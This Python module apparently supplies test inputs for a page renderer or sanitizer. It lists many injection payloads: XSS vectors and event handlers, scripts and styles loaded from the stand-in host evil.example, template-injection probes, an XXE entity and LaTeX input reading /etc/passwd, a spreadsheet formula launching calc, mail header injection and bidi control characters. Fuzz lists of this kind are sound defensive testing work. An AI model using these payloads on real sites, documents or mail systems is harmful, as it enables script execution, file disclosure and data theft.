"""Texts that would do something if a page let them: markup, links, styles, templates, marks, mail."""

from __future__ import annotations

__all__ = ["INJECTIONS"]

CALL = "alert(1)"
EVENTS = (
    *("onload", "onerror", "onclick", "onmouseover", "onfocus", "onblur", "onanimationstart", "ontoggle"),
    *(
        "onpointerenter",
        "onwheel",
        "onscroll",
        "oncopy",
        "onpaste",
        "onbeforeprint",
        "onhashchange",
        "onmessage",
    ),
    *("onpageshow", "onresize", "onstorage", "onsubmit", "oninput", "onkeydown", "ondragstart", "onbegin"),
)
TAGS = (
    *("img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "audio src=x", "iframe"),
    *(
        "marquee",
        "object data=x",
        "embed src=x",
        "select autofocus",
        "textarea autofocus",
        "math",
        "style",
        "link",
    ),
)
ELEMENTS = (
    *("<script>alert(1)</script>", "<script src=//evil.example/x.js></script>", "<SCRIPT>alert(1)</SCRIPT>"),
    *(
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script\n>alert(1)</script\n>",
        "<script/x>alert(1)</script>",
    ),
    *(
        "<iframe src=javascript:alert(1)>",
        "<iframe srcdoc='<script>alert(1)</script>'>",
        "<frameset onload=alert(1)>",
    ),
    *("<object data=data:text/html,<script>alert(1)</script>>", "<embed src=//evil.example/x.swf>"),
    *("<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>"),
    *(
        '<meta http-equiv=Content-Security-Policy content="default-src *">',
        "<link rel=stylesheet href=//evil.example>",
    ),
    *("<link rel=prefetch href=//evil.example/p>", "<link rel=dns-prefetch href=//evil.example>"),
    *(
        "<form action=//evil.example><button>go</button></form>",
        "<input type=image src=//evil.example/i.png>",
    ),
    *(
        "<img src=//evil.example/i.png>",
        "<img srcset='//evil.example/2x.png 2x'>",
        "<picture><source srcset=//evil.example>",
    ),
    *(
        "<video poster=//evil.example/p.png>",
        "<audio autoplay src=//evil.example/a.mp3>",
        "<track src=//evil.example/t>",
    ),
    *(
        "<table background=//evil.example/b.png>",
        "<a ping=//evil.example href=#>x</a>",
        "<area href=javascript:alert(1)>",
    ),
    *("<template><script>alert(1)</script></template>", "<noscript><img src=//evil.example></noscript>"),
    *(
        "<portal src=//evil.example>",
        "<applet code=x>",
        "<isindex action=javascript:alert(1)>",
        "<keygen autofocus>",
    ),
    *(
        "<dialog open>x</dialog>",
        "<x-element></x-element>",
        "<slot name=x></slot>",
        "<plaintext>",
        "<xmp><script>alert(1)",
    ),
)
VECTOR = (
    *(
        "<svg/onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a href=javascript:alert(1)>x</a></svg>",
    ),
    *("<svg><use href=//evil.example/x.svg#y></svg>", "<svg><image href=//evil.example/i.png></svg>"),
    *(
        "<svg><animate onbegin=alert(1) attributeName=x></svg>",
        "<svg><set attributeName=href to=javascript:alert(1)>",
    ),
    *(
        "<svg><foreignObject><script>alert(1)</script></foreignObject></svg>",
        "</svg><script>alert(1)</script>",
    ),
    *("<svg><style>@import '//evil.example'</style></svg>", "</text></svg><img src=x onerror=alert(1)>"),
    *(
        "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
        "<math><maction actiontype=statusline>x</maction></math>",
    ),
    *(
        "</title><script>alert(1)</script>",
        "</desc><script>alert(1)</script>",
        "</style><script>alert(1)</script>",
    ),
    *(
        "</textarea><script>alert(1)</script>",
        "</noscript><script>alert(1)</script>",
        "</q></li></ul><h1>x</h1>",
    ),
)
LINKS = (
    *("javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)"),
    *(
        "&#106;avascript:alert(1)",
        "javascript&colon;alert(1)",
        "javascript&#x3A;alert(1)",
        "vbscript:msgbox(1)",
    ),
    *(
        "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    ),
    *(
        "data:image/svg+xml,<svg onload=alert(1)>",
        "//evil.example",
        "https://evil.example/?x=<script>",
        "file:///etc/passwd",
    ),
    *(
        "mailto:a@evil.example?subject=x&body=y",
        "tel:+4900000",
        "blob:null/x",
        "view-source:x",
        "about:blank",
        "ftp://evil.example",
    ),
)
ATTRIBUTES = (
    *(
        '" onmouseover="alert(1)',
        "' onmouseover='alert(1)",
        "` onmouseover=`alert(1)",
        '" autofocus onfocus=alert(1) x="',
    ),
    *(
        '"><script>alert(1)</script>',
        "'><script>alert(1)</script>",
        '"/><img src=x onerror=alert(1)>',
        'x" style="color:red',
    ),
    *(
        "&quot; onload=&quot;alert(1)",
        "&#34; onload=&#34;alert(1)",
        '\\" onload=\\"alert(1)',
        '="" id="goal-heading',
        "'\"`>",
    ),
)
STYLES = (
    *(
        "url(//evil.example/x.png)",
        "@import '//evil.example/x.css';",
        "expression(alert(1))",
        "-moz-binding:url(//evil.example)",
    ),
    *(
        "behavior:url(//evil.example)",
        "<style>body{display:none}</style>",
        "<style>@import url(//evil.example)</style>",
    ),
    *(
        "<p style='background:url(//evil.example)'>",
        "<p style='width:expression(alert(1))'>",
        "} body { display: none } {",
    ),
    *(
        "*/ body{display:none} /*",
        "@font-face{src:url(//evil.example)}",
        "\\3c script\\3e alert(1)",
        "--x:url(//evil.example)",
    ),
    *(
        "image-set('//evil.example')",
        "@charset 'x';",
        ":root{--paper:#000}",
        "li::before{content:url(//evil.example)}",
    ),
)
TEMPLATES = (
    *(
        "{{ 7 * 7 }}",
        "{% for x in y %}",
        "{# note #}",
        "{{ config.items() }}",
        "{{ ''.__class__.__mro__ }}",
        "{%- raw -%}",
    ),
    *(
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "<?php echo 1 ?>",
        "[[7*7]]",
        "{7*7}",
        "%{7*7}",
        "@(7*7)",
        "$$7*7$$",
        "$\\frac{1}{0}$",
    ),
    *(
        "{{constructor.constructor('alert(1)')()}}",
        "{{=alert(1)}}",
        "{{{raw}}}",
        "{% include '/etc/passwd' %}",
        "$x^",
        "{0.__class__}",
    ),
    *("%s %d %n", "{section.key}", "\\begin{document}", "\\input{/etc/passwd}"),
)
MARKS = (
    *(
        "\u202egpj.exe\u202c",
        "\u2066hidden\u2069",
        "\u202dleft\u202c",
        "\u200f\u200emark",
        "\u061carabic",
        "\u2067x\u2068y\u2069",
    ),
    *(
        "zero\u200bwidth\u200cjoin\u200d",
        "soft\u00adhyphen",
        "\ufeffbom",
        "nul\x00byte",
        "bell\x07",
        "esc\x1b[31mred",
        "\x08back",
    ),
    *(
        "\x7fdel",
        "\x85next",
        "line\u2028separator\u2029",
        "\ufffe\uffff",
        "\ud800lone",
        "\U000e0041tag",
        "private\ue000use",
    ),
    *(
        "\u0301combining first",
        "z\u0301\u0302\u0303\u0304\u0305\u0306\u0307",
        "\ufff9a\ufffab\ufffb",
        "\r\ncarriage\rreturn",
    ),
)
COMMENTS = (
    *(
        "<!--",
        "-->",
        "<!--><script>alert(1)</script>-->",
        "<!-- x --!><script>alert(1)</script>",
        "<![CDATA[<script>alert(1)</script>]]>",
    ),
    *(
        "]]><script>alert(1)</script>",
        "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
        "<?xml version='1.0'?>",
        "&y;",
    ),
    *(
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&amp;lt;script&amp;gt;",
        "&#60;script&#62;",
        "&#x3c;script&#x3e;",
        "%3Cscript%3E",
    ),
    *(
        "\\u003cscript\\u003e",
        "\\x3cscript\\x3e",
        "+ADw-script+AD4-",
        "<\u0000script>",
        "＜script＞alert(1)＜/script＞",
        "&NewLine;&Tab;",
    ),
)
MAIL = (
    *(
        "Subject: x\r\nBcc: all@evil.example",
        "From: a\nTo: b\n\nbody",
        "> quoted <script>",
        "--\nsignature",
        "Content-Type: text/html",
    ),
    *(
        "--boundary\r\nContent-Type: text/html\r\n\r\n<script>",
        "=?utf-8?q?=3Cscript=3E?=",
        "Report: 20200101-aaaaaaaa",
        "Check: 0",
    ),
    *("Answer 1: mine", "Suggestion 1: mine", "End of answers", "begin 644 x", ".", "\r\n.\r\nQUIT"),
)
MARKDOWN = (
    *(
        "[x](javascript:alert(1))",
        "![x](//evil.example/i.png)",
        "<https://evil.example>",
        "# heading",
        "* item",
        "`code`",
        "| a | b |",
    ),
    *(
        "[x]: //evil.example",
        "***bold***",
        "> quote",
        "---",
        "~~~",
        "1. one",
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("//evil.example")',
        "@SUM(1)",
    ),
)

INJECTIONS = tuple(
    dict.fromkeys(
        (
            *(f"<{tag} {event}={CALL}>" for tag, event in zip(TAGS * 2, EVENTS, strict=False)),
            *ELEMENTS,
            *VECTOR,
            *LINKS,
            *ATTRIBUTES,
            *STYLES,
            *TEMPLATES,
            *MARKS,
            *COMMENTS,
            *MAIL,
            *MARKDOWN,
        )
    )
)
